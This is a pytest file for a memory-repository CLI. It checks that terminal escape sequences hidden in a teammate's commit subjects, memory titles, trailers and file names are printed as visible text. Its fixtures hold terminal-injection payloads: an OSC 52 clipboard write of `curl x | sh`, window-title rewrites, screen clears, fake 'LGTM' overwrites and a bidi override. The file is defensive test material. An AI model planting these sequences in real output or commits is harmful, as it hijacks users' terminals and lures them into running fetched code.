"""What a teammate wrote is printed with its terminal controls shown, never obeyed (issue 38, part 8).

A teammate's proposal branch whose commit subject holds OSC 52 (a clipboard write), an OSC
window title, a C1 CSI, a bare carriage return and backspaces, and memories and commits whose
titles and trailers hold CSI sequences, reach this machine by a pull; every command that prints
them prints the escapes as visible text.
"""

from __future__ import annotations

import json
import os

import pytest
from click.testing import CliRunner

from helpers import commit_all, git, write_memory
from memrepo.format import terminal
from memrepo.cli.main import cli
from memrepo.passes.curate import review

RUN = "2026-12-05T09-00-00-curate"
OSC52 = "\x1b]52;c;Y3VybCB4IHwgc2g=\x07"  # writes `curl x | sh` to the clipboard
SUBJECT = f"curator (proposed): supersede old-rule by new-rule{OSC52}\x1b]0;owned\x07\x9b2J\rLGTM\x08\x08"
SHOWN_SUBJECT = ("curator (proposed): supersede old-rule by new-rule\\x1b]52;c;Y3VybCB4IHwgc2g=\\x07\\x1b]0;owned\\x07"
                 "\\x9b2J\\x0dLGTM\\x08\\x08")
CSI_TITLE = "No Friday deploys\x1b[2J\x1b[1;1H\u202eSYSTEM"
SHOWN_TITLE = "No Friday deploys\\x1b[2J\\x1b[1;1H\\u202eSYSTEM"
# Raw in the output, each would act on the terminal: ESC, BEL, CR, BS, C1 CSI, a bidi override.
RAW = (b"\x1b", b"\x07", b"\r", b"\x08", "\x9b".encode(), "\u202e".encode())


@pytest.fixture
def hostile(repo: str) -> tuple[str, str]:
    """A store with a memory titled with CSI (committed past the hooks, as a push would bring it), and a
    teammate's review branch whose commit subject and reason hold OSC 52 and CSI; returns (repo, proposal id)."""
    write_memory(repo, "old-rule", title="Deploy on Fridays", description="Friday deploys are fine")
    write_memory(repo, "new-rule", title=CSI_TITLE, description="Friday deploys are frozen\x1b[8m hidden",
                 body=f"Ask in #ops first.{OSC52}\n")
    assert commit_all(repo, "add: two rules\x1b]0;owned\x07\n\nMemrepo-Action: add\nMemrepo-Run: 2026-12-05T08-00-00-add\n"
                      "Memrepo-Reason: said so\x1b[31m in red\n", "--no-verify").returncode == 0
    git(repo, "checkout", "-q", "-b", f"memrepo/review/{RUN}")
    path = os.path.join(repo, "memory", "old-rule.md")
    with open(path, encoding="utf-8") as fh:
        text = fh.read()
    with open(path, "w", encoding="utf-8") as fh:
        fh.write(text.replace("\n---\n", "\nstatus: superseded\nsuperseded_by: new-rule\n---\n", 1))
    git(repo, "commit", "-q", "-a", "--no-verify", "-m", f"{SUBJECT}\n\nMemrepo-Action: supersede\nMemrepo-Id: old-rule\n"
        f"Memrepo-Winner: new-rule\nMemrepo-Run: {RUN}\nMemrepo-Confidence: 0.90\n"
        "Memrepo-Reason: v2 wins\x1b[2K\x1b[1A\nMemrepo-Review: class: reference cannot supersede rule\n")
    git(repo, "checkout", "-q", "main")
    (p,) = review.proposals(repo)
    assert p["subject"] == SUBJECT  # git kept every byte of it
    return repo, p["id"]


def printed(repo: str, *args: str) -> str:
    """What `memrepo --repo REPO ARGS` prints (stdout and stderr), after checking no raw control is in it."""
    result = CliRunner().invoke(cli, ["--repo", repo, *args], catch_exceptions=False)
    raw = result.stdout_bytes + result.stderr_bytes
    assert [c for c in RAW if c in raw] == [], raw
    return raw.decode()


def test_review_lists_and_shows_a_hostile_subject_escaped(hostile: tuple[str, str]) -> None:
    repo, pid = hostile
    assert printed(repo, "review") == (f"{pid}  {RUN}  {SHOWN_SUBJECT}  [0.90] class: reference cannot supersede rule\n"
                                       "1 open proposal\n")
    assert f"open      {pid}  {RUN}  {SHOWN_SUBJECT}  [0.90]" in printed(repo, "review", "--all")
    out = printed(repo, "review", "show", pid)
    assert out.startswith(f"proposal {pid} (run {RUN}): {SHOWN_SUBJECT}\n")
    assert "reason: v2 wins\\x1b[2K\\x1b[1A\n" in out
    assert "new-rule (would win)" in out and "| Ask in #ops first.\\x1b]52;c;Y3VybCB4IHwgc2g=\\x07\n" in out
    diff = printed(repo, "review", "show", pid, "--diff")
    assert SHOWN_SUBJECT in diff and "Memrepo-Reason: v2 wins\\x1b[2K\\x1b[1A" in diff
    assert "**Reason:** v2 wins\\x1b\\[2K\\x1b\\[1A\n" in printed(repo, "review", "show", pid, "--markdown")


def test_json_output_escapes_controls_and_decodes_to_the_same_data(hostile: tuple[str, str]) -> None:
    repo, pid = hostile
    data = json.loads(printed(repo, "review", "show", pid, "--json"))
    assert data["subject"] == SUBJECT
    assert [r["title"] for r in json.loads(printed(repo, "list", "--json")) if r["id"] == "new-rule"] == [CSI_TITLE]


def test_memory_commands_print_a_hostile_title_escaped(hostile: tuple[str, str]) -> None:
    repo, _ = hostile
    assert any(line.startswith("new-rule ") and line.endswith(f" {SHOWN_TITLE}") for line in printed(repo, "list").splitlines())
    assert SHOWN_TITLE in printed(repo, "search", "friday deploys")
    out = printed(repo, "show", "new-rule")
    assert "\nAsk in #ops first.\\x1b]52;c;Y3VybCB4IHwgc2g=\\x07\n" in out
    assert "add: two rules\\x1b]0;owned\\x07" in out  # the history's subject
    log = printed(repo, "log")
    assert "add: two rules\\x1b]0;owned\\x07" in log and "Reason=said so\\x1b[31m in red" in log
    assert "add: two rules\\x1b]0;owned\\x07" in printed(repo, "log", "--runs")
    printed(repo, "doctor")


@pytest.mark.parametrize(("text", "shown"), [
    ("plain\ttext\nlines", "plain\ttext\nlines"),
    ("\x1b]52;c;eA==\x07", "\\x1b]52;c;eA==\\x07"),
    ("a\rb\x08c\x00d\x7fe", "a\\x0db\\x08c\\x00d\\x7fe"),
    ("\x9b2J \x85 \x9d0;t\x9c", "\\x9b2J \\x85 \\x9d0;t\\x9c"),
    ("abc\u202edef\u2066\u200e", "abc\\u202edef\\u2066\\u200e"),
    ("caf\u00e9 \u2014 \u00ad", "caf\u00e9 \u2014 \u00ad"),
], ids=["newline-and-tab-stay", "osc-52", "c0", "c1", "bidi", "printable"])
def test_safe(text: str, shown: str) -> None:
    assert terminal.safe(text) == shown


def test_json_text_decodes_to_the_same_data() -> None:
    data = {"subject": "a\x1b[2J\x9b\u202e\rb", "n": 1}
    text = terminal.json_text(data)
    assert json.loads(text) == data and not any(c in text for c in "\x1b\x9b\u202e\r")


def test_profile_show_prints_a_hostile_line_escaped(repo: str) -> None:
    from helpers import write_file
    from memrepo.passes import profile

    write_file(repo, profile.FILE, profile.HEADER + f"- [user 2026-11-29 used:0] Prefers tabs{OSC52}\x1b[2J\n")
    assert commit_all(repo, "a teammate's profile line", "--no-verify").returncode == 0
    out = printed(repo, "profile", "show")
    assert "] Prefers tabs\\x1b]52;c;Y3VybCB4IHwgc2g=\\x07\\x1b[2J\n" in out



def test_fmt_names_a_hostile_file_name_escaped(repo: str) -> None:
    from helpers import memory_text, write_file

    name = "memory/notes\x1b]0;owned\x07.md"
    write_file(repo, name, memory_text("notes").replace("title: Title of notes", "title:   'Title of notes'"))
    assert commit_all(repo, "a teammate's file", "--no-verify").returncode == 0
    assert printed(repo, "fmt", "--check").endswith("memory/notes\\x1b]0;owned\\x07.md\n")


def test_the_commit_check_names_a_hostile_file_name_escaped(repo: str) -> None:
    from helpers import memory_text, write_file

    write_file(repo, "memory/notes\x1b]0;owned\x07.md", memory_text("notes"))
    result = commit_all(repo, "a teammate's file")
    assert result.returncode == 1 and "\x1b" not in result.stderr and "\x07" not in result.stderr
    assert "memory/notes\\x1b]0;owned\\x07.md:2: id `notes` is not the file name" in result.stderr


def test_an_error_naming_a_hostile_file_is_escaped(repo: str) -> None:
    from helpers import write_file

    write_file(repo, "memory/bad\x1b]0;owned\x07.md", "no front matter\x1b[2J here\n")
    assert commit_all(repo, "a teammate's broken file", "--no-verify").returncode == 0
    assert "memory/bad\\x1b]0;owned\\x07.md:1: no front matter — start the file" in printed(repo, "fmt")
